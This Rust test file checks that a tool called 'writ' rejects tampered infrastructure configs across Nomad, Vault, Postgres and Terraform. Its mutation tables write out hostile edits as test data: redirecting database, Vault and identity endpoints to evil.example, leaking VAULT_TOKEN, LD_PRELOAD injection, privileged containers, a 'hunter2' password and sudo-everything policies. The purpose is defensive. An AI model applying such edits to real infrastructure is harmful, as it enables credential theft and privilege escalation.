//! Trees with something put in or changed beside what is modelled: `writ prove` refutes each, by
//! its facts or because it is not what compiles.

use crate::hand_edits::edited;
use writ_tests::verify::write_tree;
use writ_tests::{fixture, writ};

/// (file, text that is there, what is put in its place); an empty text is the file's end.
const EDITS: [(&str, &str, &str); 30] = [
    // Who gets the credentials.
    ("nomad/jobs/web-app.nomad.hcl", "registry.internal/web-app:2.3.0", "evil.example/steal:1"),
    (
        "nomad/jobs/web-app.nomad.hcl",
        "driver = \"docker\"",
        "driver = \"docker\"\n      env = { LD_PRELOAD = \"/x.so\" }",
    ),
    (
        "nomad/jobs/web-app.nomad.hcl",
        "driver = \"docker\"",
        "driver = \"docker\"\n      kind = \"connect-proxy:x\"",
    ),
    ("nomad/jobs/web-app.nomad.hcl", "image =", "privileged = true\n        image ="),
    ("nomad/jobs/web-app.nomad.hcl", "    network {", "    network {\n      mode = \"host\""),
    ("nomad/jobs/web-app.nomad.hcl", "    count = 1", "    count = 500"),
    ("nomad/jobs/web-app.nomad.hcl", "type        = \"service\"", "type        = \"sysbatch\""),
    ("nomad/jobs/web-app.nomad.hcl", "  group", "  parameterized {\n  }\n\n  group"),
    (
        "nomad/jobs/web-app.nomad.hcl",
        "  group",
        "  group \"other\" {\n    task \"t\" {\n      driver = \"exec\"\n    }\n  }\n\n  group",
    ),
    // Where they go.
    ("nomad/jobs/web-app.nomad.hcl", "\"host\": \"accounts-db.internal\"", "\"host\": \"evil.example\""),
    ("nomad/jobs/web-app.nomad.hcl", "\"sslmode\": \"verify-full\"", "\"sslmode\": \"disable\""),
    (
        "nomad/jobs/web-app.nomad.hcl",
        "\"db\":",
        "\"x\": {{ mustEnv \"VAULT_TOKEN\" | toJSON }},\n            \"db\":",
    ),
    (
        "nomad/jobs/web-app.nomad.hcl",
        "      template {",
        "      template {\n        destination = \"secrets/config.json\"\n        data = \"{{ key `a` }}\"\n      }\n\n      template {",
    ),
    // How logins are made.
    ("postgres/accounts/webapp_web-app_accounts.creation.sql", "'{{password}}'", "'hunter2'"),
    (
        "postgres/accounts/webapp_web-app_accounts.creation.sql",
        "VALID UNTIL '{{expiration}}'",
        "VALID UNTIL 'infinity'",
    ),
    ("postgres/accounts/webapp_web-app_accounts.creation.sql", " VALID UNTIL '{{expiration}}'", ""),
    (
        "vault/database/config/webapp_accounts.json",
        "\"plugin_name\"",
        "\"plugin_version\": \"v9\",\n  \"plugin_name\"",
    ),
    (
        "vault/auth/jwt-nomad/role/webapp_web-app.json",
        "\"nomad_job_id\": \"nomad_job_id\"",
        "\"nomad_job_id\": \"admin\"",
    ),
    // Terraform: who issues identities, and what runs with the deployer's rights.
    (
        "terraform/variables.tf",
        "type        = string",
        "type        = string\n  default     = \"https://evil.example\"",
    ),
    ("terraform/database-accounts.tf", "  ephemeral   = true\n", ""),
    ("terraform/versions.tf", "hashicorp/vault", "evil/vault"),
    ("terraform/service-web-app.tf", "", "provider \"vault\" {\n  address = \"https://evil.example\"\n}\n"),
    (
        "terraform/service-web-app.tf",
        "",
        "data \"external\" \"x\" {\n  program = [\"sh\", \"-c\", \"true\"]\n}\n",
    ),
    (
        "terraform/service-web-app.tf",
        "",
        "import {\n  to = vault_policy.webapp_web-app\n  id = \"admin\"\n}\n",
    ),
    ("terraform/service-web-app.tf", "", "output \"x\" {\n  value = 1\n}\n"),
    ("terraform/mounts.tf", "jwks_url = var.nomad_jwks_url", "jwks_url = var.other"),
    // Files that nothing compiles to.
    (
        "terraform/variables_override.tf",
        "",
        "variable \"nomad_jwks_url\" {\n  default = \"https://evil.example\"\n}\n",
    ),
    ("vault/policies/admin.hcl", "", "path \"*\" {\n  capabilities = [\"sudo\"]\n}\n"),
    ("deployer/policy.hcl", "", "path \"*\" {\n  capabilities = [\"sudo\"]\n}\n"),
    // The report itself.
    ("access.json", "\"stack\": \"webapp\"", "\"stack\": \"other\""),
];

/// How tasks of `fixtures/edge` are told of a change, and where they run.
const EDGE: [(&str, &str, &str); 12] = [
    ("nomad/jobs/lb.nomad.hcl", "change_mode   = \"signal\"", "change_mode   = \"noop\""),
    ("nomad/jobs/lb.nomad.hcl", "change_mode   = \"signal\"", "change_mode   = \"restart\""),
    ("nomad/jobs/lb.nomad.hcl", "\"SIGHUP\"", "\"SIGKILL\""),
    ("nomad/jobs/lb.nomad.hcl", "        change_signal = \"SIGHUP\"\n", ""),
    ("nomad/jobs/lb.nomad.hcl", "\"30s\"", "\"0s\""),
    ("nomad/jobs/web.nomad.hcl", "\"SIGUSR1\"", "\"SIGUSR2\""),
    ("nomad/jobs/web.nomad.hcl", "change_mode   = \"signal\"", "change_mode   = \"script\""),
    (
        "nomad/jobs/ledger.nomad.hcl",
        "change_mode = \"noop\"\n        perms",
        "change_mode = \"restart\"\n        perms",
    ),
    ("nomad/jobs/ledger.nomad.hcl", "        change_mode = \"noop\"\n        perms", "        perms"),
    ("nomad/jobs/lb.nomad.hcl", "operator  = \"version\"", "operator  = \"semver\""),
    ("nomad/jobs/web.nomad.hcl", "      operator  = \"is_set\"", "      operator  = \"is_not_set\""),
    ("nomad/jobs/web.nomad.hcl", "\"^apps-[0-9]+$\"", "\".*\""),
];

#[test]
fn whatever_is_put_into_a_tree_is_refuted() {
    refuted("webapp", &EDITS);
}

#[test]
fn another_way_to_tell_of_a_change_and_another_node_are_refuted() {
    refuted("edge", &EDGE);
}

fn refuted(name: &str, edits: &[(&str, &str, &str)]) {
    let clean = writ_disk::tree(&fixture(name).join("out")).unwrap();
    let sources = format!("fixtures/{name}");
    let mut proved = Vec::new();
    for (file, from, to) in edits {
        let tree = edited(&clean, file, from, to);
        let folder = tempfile::tempdir().unwrap();
        write_tree(folder.path(), &tree).unwrap();
        let output = writ(&["prove", &sources, "--tree", folder.path().to_str().unwrap()]).unwrap();
        let said = String::from_utf8_lossy(&output.stderr).into_owned();
        assert!(!["Some(", "None", "String(", "kind:"].iter().any(|rust| said.contains(rust)), "{said}");
        if output.status.code() != Some(1) || !said.contains(file) {
            proved.push(format!("{file}: {to:?}: {:?} {said}", output.status.code()));
        }
    }
    assert!(proved.is_empty(), "{}", proved.join("\n"));
}

/// What terraform would apply beside the tree is told by `compile`, and stops the hook.
#[test]
fn a_stray_file_is_told_and_stops_the_hook() {
    let folder = tempfile::tempdir().unwrap();
    let out = folder.path().join("out");
    let arguments = ["compile", "fixtures/webapp", "--out", out.to_str().unwrap()];
    assert!(writ(&arguments).unwrap().status.success());
    let stray = out.join("terraform/z.tf");
    std::fs::write(&stray, "resource \"vault_policy\" \"x\" {}\n").unwrap();
    let again = writ(&arguments).unwrap();
    assert!(again.status.success());
    assert!(String::from_utf8_lossy(&again.stdout).contains("terraform/z.tf"));
    assert!(stray.exists(), "what writ did not make it leaves");
    let hook = writ(&[&arguments[..], &["--check"]].concat()).unwrap();
    assert_eq!(hook.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&hook.stdout).contains("terraform/z.tf"));
}

/// What more is granted is pointed at where it stands, and one file that is gone is one cause.
#[test]
fn what_is_wrong_is_pointed_at() {
    let prove = |change: &dyn Fn(&mut std::collections::BTreeMap<String, String>)| {
        let mut tree = writ_disk::tree(&fixture("webapp").join("out")).unwrap();
        change(&mut tree);
        let folder = tempfile::tempdir().unwrap();
        write_tree(folder.path(), &tree).unwrap();
        let tree = folder.path().to_str().unwrap();
        let output = writ(&["prove", "fixtures/webapp", "--tree", tree, "--format", "json"]).unwrap();
        let report: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
        let one = |finding: &serde_json::Value| {
            let said = ["code", "label"].map(|field| finding[field].as_str().unwrap().to_owned());
            (said, finding["place"]["start"]["line"].as_u64().unwrap())
        };
        report["findings"].as_array().unwrap().iter().map(one).collect::<Vec<_>>()
    };
    let policy = "vault/policies/webapp_web-app.hcl";
    let appended = "path \"secret/data/x\" {\n  capabilities = [\"read\"]\n}\n";
    let found = prove(&|tree| tree.get_mut(policy).unwrap().push_str(appended));
    let lines = fixture("webapp").join("out").join(policy);
    let line = std::fs::read_to_string(lines).unwrap().lines().count() + 1;
    let more = found.iter().find(|(said, _)| said[0] == "prove/more-than-declared").unwrap();
    assert_eq!(more.1, line as u64, "{found:?}");
    let role = "vault/database/roles/webapp_web-app_accounts.json";
    let found = prove(&|tree| {
        let text = tree.get_mut(role).unwrap();
        *text = text.replace("\"max_ttl\": 86400", "\"max_ttl\": 864000");
    });
    let said = "`max_ttl` is 240h here, but 24h was declared";
    assert!(found.iter().any(|(it, _)| it[1] == said), "{found:?}");
    let found = prove(&|tree| drop(tree.remove(policy)));
    let codes: Vec<&str> = found.iter().map(|(said, _)| said[0].as_str()).collect();
    assert_eq!(codes, ["prove/missing", "prove/check-failed", "prove/dead-chain"]);
}
